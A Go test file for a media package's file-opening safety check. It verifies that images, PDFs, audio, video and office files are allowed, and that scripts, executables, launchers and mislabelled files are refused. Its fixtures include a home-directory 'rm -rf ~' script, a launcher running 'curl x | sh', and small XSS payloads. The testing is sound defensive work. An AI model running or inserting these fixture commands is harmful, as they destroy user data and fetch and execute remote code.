package media

import (
	"os"
	"path/filepath"
	"testing"
)

func TestCheckOpenAllowList(t *testing.T) {
	const (
		png    = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
		jpeg   = "\xff\xd8\xff\xe0\x00\x10JFIF\x00"
		mp4    = "\x00\x00\x00\x18ftypisom\x00\x00\x02\x00"
		mov    = "\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00"
		heic   = "\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"
		elf    = "\x7fELF\x02\x01\x01\x00"
		zip    = "PK\x03\x04\x14\x00\x06\x00"
		ole2   = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00"
		script = "#!/bin/sh\nrm -rf ~\n"
		entry  = "[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\n"
	)
	tests := []struct {
		name, content string
		mode          os.FileMode
		direct        bool
		kind          string
	}{
		{"photo.png", png, 0o600, true, "an image"},
		{"Photo.JPG", jpeg, 0o600, true, "an image"},
		{"shot.heic", heic, 0o600, true, "an image"},
		{"report.pdf", "%PDF-1.7\n%âãÏÓ\n", 0o600, true, "a PDF document"},
		{"notes.txt", "hello\nworld\n", 0o600, true, "plain text"},
		{"empty.md", "", 0o600, true, "plain text"},
		{"song.mp3", "ID3\x04\x00\x00\x00\x00\x00\x00", 0o600, true, "audio"},
		{"song.flac", "fLaC\x00\x00\x00\x22", 0o600, true, "audio"},
		{"clip.mp4", mp4, 0o600, true, "a video"},
		{"clip.mov", mov, 0o600, true, "a video"},
		{"clip.webm", "\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01", 0o600, true, "a video"},
		{"sheet.xlsx", zip, 0o600, true, "an office document"},
		{"old.doc", ole2, 0o600, true, "an office document"},

		{"setup.desktop", entry, 0o600, false, "a desktop launcher"},
		{"run.sh", script, 0o600, false, "a script (#!)"},
		{"install.sh", "echo hi\n", 0o600, false, "a shell script (.sh)"},
		{"tool.exe", "MZ\x90\x00\x03\x00", 0o600, false, "a Windows executable"},
		{"app.jar", zip, 0o600, false, "a Java program (.jar)"},
		{"App.AppImage", elf, 0o600, false, "an ELF executable"},
		{"page.html", "<html><script>alert(1)</script>", 0o600, false, "a web page (.html)"},
		{"logo.svg", "<svg onload=alert(1)>", 0o600, false, "an SVG image (.svg)"},
		{"data.xyz", "whatever", 0o600, false, "an unknown type (.xyz)"},
		{"README", "text", 0o600, false, "a file without an extension"},
		// An allowed extension does not vouch for the content.
		{"cat.png", entry, 0o600, false, "a desktop launcher"},
		{"cute.png", elf, 0o600, false, "an ELF executable"},
		{"notes.txt", script, 0o600, false, "a script (#!)"},
		{"fake.pdf", "hello", 0o600, false, "a .pdf file whose content is not a PDF document"},
		{"fake.png", zip, 0o600, false, "a .png file whose content is not an image"},
		{"report.pdf", "%PDF-1.7\n", 0o755, false, "an executable file (mode 0755)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), tt.name)
			if err := os.WriteFile(path, []byte(tt.content), tt.mode); err != nil {
				t.Fatal(err)
			}
			if err := os.Chmod(path, tt.mode); err != nil {
				t.Fatal(err)
			}
			got, err := CheckOpen(path)
			if err != nil {
				t.Fatal(err)
			}
			if got != (OpenCheck{Direct: tt.direct, Kind: tt.kind}) {
				t.Fatalf("CheckOpen = %+v, want direct=%v kind %q", got, tt.direct, tt.kind)
			}
		})
	}
}

func TestCheckOpenRefusesSpecialFilesAndMissing(t *testing.T) {
	dir := t.TempDir()
	if got, err := CheckOpen(dir); err != nil || got.Direct || got.Kind != "not a regular file" {
		t.Fatalf("directory: %+v, %v", got, err)
	}
	if _, err := CheckOpen(filepath.Join(dir, "absent.png")); err == nil {
		t.Fatal("no error for a missing file")
	}
}
